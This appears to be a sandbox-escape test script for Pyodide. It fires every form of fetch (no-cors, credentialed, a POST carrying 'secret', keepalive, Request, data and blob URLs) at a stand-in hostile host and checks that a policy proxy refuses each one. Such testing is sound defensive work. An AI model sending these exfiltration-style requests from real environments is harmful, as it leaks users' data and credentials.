# promise: P2
# defence: policy
# control: policy seal lockdown globals
# Every form of fetch, in every scope there is. What it gives is a promise, so the proxy judges.
from pyodide.ffi import to_js
from reach import go_on_after_the_end, js_object, later, linger, scopes

ADDRESS = "http://fetch.hostile.invalid/"


def options(**entries):
    return to_js(entries, dict_converter=js_object().fromEntries)


go_on_after_the_end()
for by, scope in scopes():
    for way, ask in (
        ("plain", lambda: scope.fetch(ADDRESS)),
        ("without CORS", lambda: scope.fetch(ADDRESS + "no-cors", options(mode="no-cors"))),
        ("with credentials", lambda: scope.fetch(ADDRESS + "creds", options(mode="no-cors", credentials="include"))),
        ("a POST", lambda: scope.fetch(ADDRESS + "post", options(mode="no-cors", method="POST", body="secret"))),
        ("kept alive", lambda: scope.fetch(ADDRESS + "alive", options(mode="no-cors", keepalive=True, method="POST"))),
        ("a Request", lambda: scope.fetch(scope.Request.new(ADDRESS + "request", options(mode="no-cors")))),
        ("https", lambda: scope.fetch("https://fetch.hostile.invalid/", options(mode="no-cors"))),
        ("a data address", lambda: scope.fetch("data:text/plain,hostile")),
        ("a blob", lambda: scope.fetch(scope.URL.createObjectURL(scope.Blob.new(to_js(["x"]))))),
    ):
        try:
            later(ask(), f"fetch {way} (by {by})")
            print(f"refused: fetch {way} (by {by}): a promise")
        except Exception as error:
            print(f"refused: fetch {way} (by {by}): {type(error).__name__}")
linger()
print("held")
